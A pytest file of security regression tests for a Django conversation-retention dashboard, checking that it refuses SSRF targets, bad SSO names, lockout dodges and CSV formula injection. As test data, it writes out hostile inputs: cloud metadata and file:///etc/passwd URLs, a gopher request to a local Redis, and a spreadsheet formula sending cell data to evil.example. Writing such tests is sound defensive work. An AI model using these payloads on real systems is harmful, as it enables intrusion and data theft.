"""Regression tests for attacks found when Lethe was attacked as a production instance: an
operator on the team, a hostile provider answer, a typo. Each is named for the attack."""

from __future__ import annotations

import csv
import io
import json

import httpx
import pytest
from django.contrib.auth import get_user_model
from django.core.management import CommandError, call_command
from django.db import IntegrityError, transaction
from django.urls import reverse

from dashboard.erasure import freeze
from dashboard.mirror import sync
from dashboard.models import (
    AuditEvent,
    Connection,
    ErasureJob,
    Message,
    RetentionPolicy,
    SyncRun,
)
from providers import HttpPolicy, PermanentError
from providers.convai import ConvaiProvider
from providers.fakes.convai import DEMO_KEY
from providers.http import HttpClient
from tests.helpers import PASSWORD, draft_jobs, make_connection, via_proxy, with_role

pytestmark = pytest.mark.django_db


# -- server-side request forgery ---------------------------------------------------------


@pytest.mark.parametrize("address", [
    "http://10.0.0.5:8080", "https://169.254.169.254/latest/meta-data", "http://127.0.0.1:8101",
    "file:///etc/passwd", "gopher://127.0.0.1:6379/_INFO", "https://user:pw@api.convai.com",
    "http://api.convai.com", "https://internal.corp.example",
])
def test_ssrf_a_connection_cannot_point_at_an_address_nobody_allowed(client, owner, settings,
                                                                     address, piped_stdin):
    settings.LETHE_PROVIDER_HOSTS = ()
    client.force_login(owner)
    page = client.post(reverse("connection_add"), {
        "provider": "convai", "label": "Probe", "secret_api_key": DEMO_KEY,
        "option_base_url": address}).content.decode()
    assert "error-text" in page and not Connection.objects.exists()
    piped_stdin(f"api_key={DEMO_KEY}\n")
    with pytest.raises(CommandError, match="Nothing was saved"):
        call_command("connect", "convai", "--label", "Probe", "--owner", owner.username,
                     "--option", f"base_url={address}", "--no-check", stdout=io.StringIO())
    assert not Connection.objects.exists()


def test_ssrf_an_allowed_gateway_may_be_used(client, owner, settings):
    settings.LETHE_PROVIDER_HOSTS = ("gateway.corp.example",)
    client.force_login(owner)
    # The gateway does not exist here, so the key is saved without the check a save makes.
    client.post(reverse("connection_add"), {
        "provider": "convai", "label": "Via gateway", "secret_api_key": DEMO_KEY,
        "option_base_url": "http://gateway.corp.example/convai", "skip_check": "on"})
    assert Connection.objects.get().options["base_url"] == "http://gateway.corp.example/convai"


def test_ssrf_a_provider_host_that_resolves_inside_is_refused_when_called():
    # As if DNS pointed the provider's own name inside: "localhost" plays that name here.
    policy = HttpPolicy(retries=0)
    with pytest.raises(PermanentError, match="internal address"):
        import asyncio

        from providers.egress import transport_for
        from providers.hosts import HostRules

        async def call() -> None:
            url = "http://localhost:9"
            async with HttpClient(url, label="Convai", policy=policy,
                                  transport=transport_for(url, HostRules(("localhost",)),
                                                          "Convai")) as http:
                await http.read("GET", "/")

        asyncio.run(call())


def test_ssrf_whatever_answers_is_never_echoed_back_to_the_page():
    import asyncio

    async def call() -> None:
        secret = httpx.MockTransport(lambda request: httpx.Response(
            400, text="internal-only service: build=4f2a db=10.0.0.7 token=abc"))
        provider = ConvaiProvider({"api_key": DEMO_KEY}, {}, transport=secret)
        async with provider:
            await provider.check()

    with pytest.raises(PermanentError) as refused:
        asyncio.run(call())
    assert "internal-only" not in str(refused.value) and "400" in str(refused.value)


# -- header single sign-on ---------------------------------------------------------------


def test_sso_a_demoted_person_loses_the_role_on_the_next_request(sso, synced):
    assert "alice · admin" in sso.get(reverse("home"), **via_proxy(
        groups="lethe-admins")).content.decode()
    page = sso.get(reverse("home"), **via_proxy(groups="lethe-viewers")).content.decode()
    assert "alice · viewer" in page
    alice = get_user_model().objects.get(username="alice")
    assert set(alice.groups.values_list("name", flat=True)) == {"lethe-viewers"}


def test_sso_an_overlong_or_odd_user_name_gets_a_clear_403(sso):
    for name in ["a" * 151, "alice; DROP TABLE", "ali ce"]:
        response = sso.get(reverse("home"), **via_proxy(user=name))
        assert response.status_code == 403 and b"not one Lethe accepts" in response.content
    assert not get_user_model().objects.exists()


def test_sso_a_header_cannot_sign_in_a_local_account(sso, django_user_model):
    django_user_model.objects.create_superuser("root", password="x-root-123")
    response = sso.get(reverse("home"), **via_proxy(user="root"))
    assert response.status_code == 403 and b"does not sign in through" in response.content
    assert not AuditEvent.objects.filter(action="sign_in").exists()


# -- local sign-in -----------------------------------------------------------------------


def test_login_lockout_cannot_be_dodged_by_spelling_the_name_differently(client, owner,
                                                                        settings):
    settings.LETHE_LOGIN_MAX_FAILURES = 3
    for _ in range(3):
        client.post(reverse("login"), {"username": "owner", "password": "wrong"})
    for spelling in [" owner", "owner ", "\towner", "OWNER", "ｏwner"]:
        page = client.post(reverse("login"), {"username": spelling, "password": PASSWORD})
        assert "Too many failed sign-ins" in page.content.decode(), spelling
        assert "_auth_user_id" not in client.session
    refused = AuditEvent.objects.filter(action="sign_in_failed", details__reason="locked out")
    assert refused.count() == 5


# -- retention policies ------------------------------------------------------------------


def test_a_policy_of_absurd_numbers_is_refused_by_form_admin_and_database(client, synced,
                                                                          django_user_model):
    client.force_login(synced.owner)
    for field in ("older_than_days", "every_hours"):
        data = {"name": "Forever", "scope": "connection", "connection": synced.pk,
                "older_than_days": 90, "mode": "approve", "every_hours": 24, "enabled": "on",
                field: 2147483647}
        assert "error-text" in client.post(reverse("policy_add"), data).content.decode()
    boss = django_user_model.objects.create_superuser("boss", password="x-boss-123")
    client.force_login(boss)
    client.post(reverse("admin:dashboard_retentionpolicy_add"), {
        "name": "Forever", "owner": boss.pk, "scope": "all", "older_than_days": 2147483647,
        "mode": "approve", "every_hours": 24})
    assert not RetentionPolicy.objects.exists()
    with pytest.raises(IntegrityError), transaction.atomic():
        RetentionPolicy.objects.create(name="Forever", owner=synced.owner,
                                       every_hours=2147483647)


# -- hostile provider answers -------------------------------------------------------------


def test_a_nul_byte_from_the_provider_does_not_block_the_sync(owner, convai_fake,
                                                               convai_server):
    convai_fake.odd_text = True
    connection = make_connection(owner, convai_server.url)
    run = sync.perform_sync(sync.start(connection).pk)
    assert run.status == SyncRun.Status.OK, run.error
    assert "replaced" in run.notes
    assert Message.objects.filter(text__startswith="odd \ufffd text \ufffd here").exists()
    assert sync.perform_sync(sync.start(connection, full=True).pk).status == SyncRun.Status.OK


# -- files people download ---------------------------------------------------------------


def test_csv_formula_injection_is_neutralised_in_exports_and_the_audit_trail(
        client, synced, django_user_model):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    conv = synced.conversations.order_by("id").first()
    Message.objects.filter(conversation=conv, position=0).update(text=formula)
    Connection.objects.filter(pk=synced.pk).update(label="+SUM(1,1)")
    client.force_login(synced.owner)
    request = freeze.conversations(synced.owner, synced.conversations.filter(pk=conv.pk), {})
    export = b"".join(client.get(reverse("erase_export", args=[request, "csv"]))
                      .streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(export)) for cell in row]
    assert "'" + formula in cells and formula not in cells
    assert not any(cell[:1] in "=+-@" for cell in cells if cell)
    boss = with_role(django_user_model.objects.create_user("auditor", password="x-aud-123"),
                     "approver")
    AuditEvent.objects.create(action="keep_list_changed", actor_name="@evil",
                              object_label="-2+3", details={"note": "=1+1"})
    client.force_login(boss)
    trail = b"".join(client.get(reverse("audit_csv")).streaming_content).decode()
    rows = list(csv.reader(io.StringIO(trail)))
    assert not any(cell[:1] in "=+-@\t\r" for row in rows for cell in row if cell)
    # Details are JSON, not Python's repr.
    [planted] = [row for row in rows if row[1] == "'@evil"]
    assert json.loads(planted[6]) == {"note": "=1+1"} and planted[5] == "'-2+3"


# -- the typed confirmation ------------------------------------------------------------


def test_the_typed_number_is_what_is_really_sent_whatever_the_options(client, synced,
                                                                      settings):
    """Including pinned messages used to add to what was sent after the typed number was
    checked. The full matrix is in tests/erasure/test_decision.py."""
    settings.LETHE_TYPED_CONFIRM_THRESHOLD = 1
    conv = synced.conversations.order_by("id").first()
    Message.objects.filter(conversation=conv, position=0).update(pinned=True)
    [job] = draft_jobs(synced, 3)
    url = reverse("erase_preview", args=[job.request])
    client.force_login(synced.owner)
    # The page showed 2 (the session with a pinned message kept); the post includes it.
    client.post(url, {"mode": "erase", "include_pinned": "1", "expected_total": "2",
                      "shown_include_pinned": "0", "typed_count": "2"})
    job.refresh_from_db()
    assert job.status == ErasureJob.Status.DRAFT


# -- the automation commands -----------------------------------------------------------


@pytest.mark.parametrize("label", ["", "   ", "x" * 121])
def test_connect_refuses_a_label_the_form_refuses(owner, convai_server, piped_stdin, label):
    piped_stdin(f"api_key={DEMO_KEY}\n")
    with pytest.raises(CommandError, match="label"):
        call_command("connect", "convai", "--label", label, "--owner", owner.username,
                     "--option", f"base_url={convai_server.url}", "--no-check",
                     stdout=io.StringIO())
    assert not Connection.objects.exists()
